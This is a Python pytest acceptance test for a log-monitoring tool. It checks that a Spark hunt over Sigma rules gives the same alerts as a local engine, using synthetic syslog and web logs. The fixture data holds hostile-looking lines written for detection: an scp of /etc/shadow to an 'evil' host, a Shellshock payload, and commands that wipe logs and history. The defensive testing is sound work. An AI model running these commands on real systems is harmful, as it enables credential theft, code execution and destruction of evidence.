"""Issue 21's first acceptance test: for every Sigma rule of shared/testdata/sigma and the bundled
rules (and a few of our own that use what those do not: regular expressions, CIDR, numbers, null,
|all, ?, the derived hour and weekday, correlations with and without group-by), the Spark hunt's
alerts equal the local engine's, alert for alert and event for event, over a store built through the
services: several hosts, RFC 5424 and RFC 3164 lines, nginx access and error lines, an Apache error
log, headers no parser reads, several segments, brute-force windows across segment boundaries."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from django.db import transaction
from django.test import override_settings

from lakthan.monitoring.pipeline import detect as detect_engine
from lakthan.monitoring.pipeline import rules
from lakthan.monitoring.pipeline.matches import stacked
from lakthan.monitoring.pipeline.store import LogStore
from lakthan.monitoring.services import ingest
from lakthan.monitoring.services import seal as sealing
from lakthan.monitoring.services.events import in_range, positioned
from lakthan.monitoring.services.home import store as home_store

from .gen import known_attacks
from .test_detect import MALFORMED

pytestmark = pytest.mark.django_db  # (so that the session's test database is set up for the store)

ROOT = Path(__file__).resolve().parents[2]
SIGMA = Path("/work/shared/testdata/sigma")
if not SIGMA.exists():
    SIGMA = ROOT.parent / "shared" / "testdata" / "sigma"
RULE_FILES = sorted(SIGMA.glob("*/*.yml")) + sorted((ROOT / "src/lakthan/monitoring/rules").glob("*.yml"))
PLACEHOLDERS = {"disabled_accounts": ["Former01"]}
START, END = (
    datetime(2013, 3, 5, 3, 0, 30, tzinfo=UTC),
    datetime(2013, 3, 5, 4, 2, tzinfo=UTC),
)  # cuts brute forces

OWN = {
    "own_regex.yml": """title: Failed root or admin password (regex)
id: 5a1f6d0e-0000-4000-8000-000000000101
logsource: {product: linux, service: sshd}
detection:
  sel:
    msg|re|i: 'FAILED password for (root|admin) from \\d+\\.\\d+\\.\\d+\\.\\d+ port 4\\d{3} ssh2$'
  condition: sel
level: low
""",
    "own_cidr.yml": """title: From the documentation network 203.0.113.0/24
id: 5a1f6d0e-0000-4000-8000-000000000102
logsource: {product: linux}
detection:
  sel: {src_ip|cidr: 203.0.113.0/24}
  condition: sel
level: low
""",
    "own_status.yml": """title: Web errors
id: 5a1f6d0e-0000-4000-8000-000000000103
logsource: {category: webserver}
detection:
  sel: {sc-status|gte: 400}
  condition: sel
level: low
""",
    "own_null.yml": """title: Cron without a user, at night or on Saturday
id: 5a1f6d0e-0000-4000-8000-000000000104
logsource: {product: linux}
detection:
  cron: {program: CRON, user: null}
  night: {hour|lt: 12}
  sat: {weekday: Sat}
  condition: cron and night or sat
level: low
""",
    "own_all.yml": """title: Root account created (all, ?)
id: 5a1f6d0e-0000-4000-8000-000000000105
logsource: {product: linux}
detection:
  sel:
    msg|all: ['new user:*', '*shell=/bin/ba?h']
  other:
    msg|contains|all: [backdoor, sudo]
  condition: sel or other
level: low
""",
    "own_count.yml": """title: Web request
id: 5a1f6d0e-0000-4000-8000-000000000106
name: own_web_request
logsource: {category: webserver}
detection:
  sel: {cs-method: GET}
  condition: sel
level: low
---
title: Web burst (more than 20 requests in 30 seconds, any host)
id: 5a1f6d0e-0000-4000-8000-000000000107
correlation:
  type: event_count
  rules: [own_web_request]
  timespan: 30s
  condition: {gt: 20}
level: medium
---
title: Cron storm (25 runs an hour on one host, across segments)
id: 5a1f6d0e-0000-4000-8000-000000000108
correlation:
  type: event_count
  rules: [own_cron]
  group-by: [Hostname]
  timespan: 1h
  condition: {gte: 25}
level: low
---
title: Cron ran
id: 5a1f6d0e-0000-4000-8000-000000000109
name: own_cron
logsource: {product: linux, service: cron}
detection:
  sel: {program|startswith: cr}
  condition: sel
level: low
""",
}

LINES_3164 = [  # (host, program, message): what the SigmaHQ rules name, on other hosts
    ("app01", "kernel", "attempt to execute code on stack by /usr/bin/foo"),
    ("app01", "clamav", "/tmp/x.php: Webshell.PHP-1 FOUND"),
    ("app01", "bash", "rm -f /var/log/syslog"),
    ("app01", "bash", "mv /var/log/syslog.1 /tmp/"),  # a false positive the rule filters out
    ("fw01", "cron", "(root) REPLACE (root)"),
    ("app01", "bash", "scp /etc/shadow evil@203.0.113.9:/tmp/"),
    ("app01", "guacamole", "User joined connection (2 users now present)"),
    ("app01", "bash", "cat /dev/null > ~/.bash_history"),
    ("app02", "bash", "history -c"),
    ("app02", "httpd", "() { :; }; /bin/bash -c id"),
    ("fw01", "sshd", "error: Corrupted MAC on input."),
    ("fw01", "sshd", "Failed password for admin from 203.0.113.77 port 4999 ssh2"),
    ("fw01", "vsftpd", "Connection refused: too many sessions for this address."),
    ("fw01", "vsftpd", "syscall 57 out of bounds"),
    (
        "app02",
        "sudo",
        "  ops : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/truncate -s 0 /var/log/auth.log",
    ),
]
WEB = [
    '203.0.113.9 - - [05/Mar/2013:11:00:00 +0700] "POST /mgmt/tm/util/bash HTTP/1.1" 200 10 "-" "curl/8"',
    '203.0.113.9 - - [05/Mar/2013:11:00:01 +0700] "GET / HTTP/1.1" 200 10 "-" "Hello-World/1.0"',
    '203.0.113.9 - - [05/Mar/2013:11:00:02 +0700] "GET /momyshark?key=abc HTTP/1.1" 404 0 "-" "Mozilla/5.0"',
    '203.0.113.9 - - [05/Mar/2013:11:00:03 +0700] "GET /tools/x.EXE HTTP/1.1" 200 10 "-" "Mozilla/5.0"',
]
NGINX_ERRORS = ["2013/03/05 11:10:00 [alert] 1234#0: worker process 5678 exited on signal 6 (core dumped)"]
APACHE_ERRORS = [
    "[Tue Mar 05 11:11:00.123456 2013] [core:notice] [pid 999] AH00052: child pid 1000 exit signal "
    "Segmentation fault (11)",
    "[Tue Mar 05 11:12:00 2013] [core:error] [pid 1] __pthread_tpp_change_priority: Assertion `new_prio == -1"
    " || (new_prio >= fifo_min_prio && new_prio <= fifo_max_prio)' failed.",
]


def _sources() -> list[tuple[str, str]]:
    return [(str(p), p.read_text()) for p in RULE_FILES] + list(OWN.items())


@pytest.fixture(scope="module")
def store(tmp_path_factory, django_db_setup, django_db_blocker) -> LogStore:
    """The store, built once through the services (its database rows rolled back; the files stay)."""
    home = tmp_path_factory.mktemp("hunt")
    syslog, access = known_attacks()
    files = home / "files"
    files.mkdir()
    lines_3164 = [
        f"<38>Mar  5 10:{i:02d}:00 {h} {app}[{100 + i}]: {msg}" for i, (h, app, msg) in enumerate(LINES_3164)
    ]
    (files / "3164.log").write_text("\n".join(lines_3164) + "\n")
    (files / "malformed.log").write_bytes(b"\n".join(MALFORMED) + b"\n")
    with (
        django_db_blocker.unblock(),
        override_settings(LAKTHAN_LOG_DIR=home / "logs", LAKTHAN_BLOB_DIR=home / "blobs"),
        transaction.atomic(),
    ):
        for part in range(4):  # RFC 5424 in four segments: brute-force windows cross their boundaries
            ingest.ingest_lines(syslog[part::4], "syslog")
            sealing.seal()
        ingest.ingest_lines(access + WEB, "nginx")
        ingest.ingest_lines(NGINX_ERRORS, "nginx")
        ingest.ingest_lines(APACHE_ERRORS, "apache")
        sealing.seal()
        ingest.ingest_files([files / "3164.log"], fmt="syslog", year=2013)
        ingest.ingest_files([files / "malformed.log"], fmt="syslog", year=2013)
        sealing.seal()
        s = home_store()
        transaction.set_rollback(True)
    assert s.size() == 6
    return s


def _local(s: LogStore, rs: rules.RuleSet, start: datetime | None, end: datetime | None) -> list[dict]:
    parts = []
    for index in range(1, s.size() + 1):
        events = positioned(s, index)
        parts.append(
            detect_engine.matching(events.filter(in_range(start, end)) if start or end else events, rs)
        )
    return detect_engine.alerts(*stacked(parts), rs)


@pytest.fixture(scope="module")
def both(store, spark) -> dict:
    from lakthan.monitoring.pipeline.spark.hunt import hunt

    rs = rules.compile_texts(_sources(), PLACEHOLDERS)
    segments = [(i, str(store.segment_path(i))) for i in range(1, store.size() + 1)]
    out = {"rs": rs}
    for name, (start, end) in {"all": (None, None), "cut": (START, END)}.items():
        out[name] = (
            _local(store, rs, start, end),
            hunt(spark, segments, _sources(), PLACEHOLDERS, start, end),
        )
    return out


def _ids_of(rs: rules.RuleSet, path: str) -> set[str]:
    return {r.id for r in rs.rules if r.path == path} | {c.id for c in rs.correlations if c.path == path}


@pytest.mark.parametrize("path", [str(p) for p in RULE_FILES] + list(OWN), ids=lambda p: Path(p).stem)
def test_each_rule_has_the_same_alerts_on_spark_as_on_the_local_engine(both, path):
    ids = _ids_of(both["rs"], path)
    assert ids  # it compiled
    for period in ("all", "cut"):
        local, spark = both[period]
        assert [a for a in spark if a["rule_id"] in ids] == [a for a in local if a["rule_id"] in ids], period


def test_the_whole_hunt_is_the_local_detection_in_order_and_most_rules_fire(both):
    local, spark = both["all"]
    assert spark == local
    assert both["rs"].errors == []
    fired = {a["rule_id"] for a in local}
    assert len(fired) >= 30, sorted(fired)
    hosts = {a["host"] for a in local}
    assert {"web01", "db01", "app01", "app02", "fw01", None} <= hosts  # None: the unparsed lines
    unparsed = [a for a in local if a["host"] is None]
    assert {a["rule_title"] for a in unparsed} >= {"Shellshock Expression", "Suspicious OpenSSH Daemon Error"}


def test_correlations_cross_segments_and_the_cut_period_changes_them_alike(both):
    local, spark = both["all"]
    brute = [a for a in spark if a["rule_title"].startswith("SSH brute force")]
    assert [(a["host"], a["count"]) for a in brute] == [("db01", 15), ("web01", 12)]
    assert len({e["segment"] for a in brute for e in a["events"]}) == 4  # its windows span four segments
    storm = [a for a in spark if a["rule_title"].startswith("Cron storm")]
    assert [(a["host"], a["count"], a["events_truncated"]) for a in storm] == [("db01", 200, True)]
    assert len(storm[0]["events"]) == detect_engine.MAX_EVENTS
    cut_local, cut_spark = both["cut"]
    assert cut_spark == cut_local
    cut_brute = [a for a in cut_spark if a["rule_title"].startswith("SSH brute force")]
    assert [(a["host"], a["count"]) for a in cut_brute] != [(a["host"], a["count"]) for a in brute]
    assert any(a["rule_title"].startswith("Web burst") for a in spark)
